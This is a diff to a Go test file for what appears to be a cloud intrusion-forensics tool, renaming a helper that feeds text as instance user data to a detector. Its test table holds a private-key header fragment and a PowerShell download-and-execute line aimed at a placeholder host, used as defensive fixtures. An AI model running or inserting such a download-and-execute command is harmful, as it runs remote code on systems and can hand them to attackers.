@@ -12,9 +12,9 @@ import (
 	"github.com/trailhound/trailhound/internal/lineage"
 )
 
-// told reads a text as the user data of an instance that the intruder started, and
+// userDataTold reads a text as the user data of an instance that the intruder started, and
 // gives what the report says of it.
-func told(t *testing.T, text string) (says []string, impact []Impact) {
+func userDataTold(t *testing.T, text string) (says []string, impact []Impact) {
 	t.Helper()
 	body, err := json.Marshal(map[string]any{"InstanceId": "i-1", "UserData": map[string]any{"Value": base64.StdEncoding.EncodeToString([]byte(text))}})
 	if err != nil {
@@ -47,7 +47,7 @@ func TestUserDataIsReadAndNotQuoted(t *testing.T) {
 		"-----BEGIN RSA PRIVATE KEY-----\nMII":                                  {"a private key"},
 		"<powershell>iex (New-Object Net.WebClient).DownloadString('http://x')": {run},
 	} {
-		got, impact := told(t, text)
+		got, impact := userDataTold(t, text)
 		if !slices.Equal(got, want) || len(impact) != len(want) { // and two snapshots say it once
 			t.Errorf("%q: %q, want %q", text, got, want)
 		}
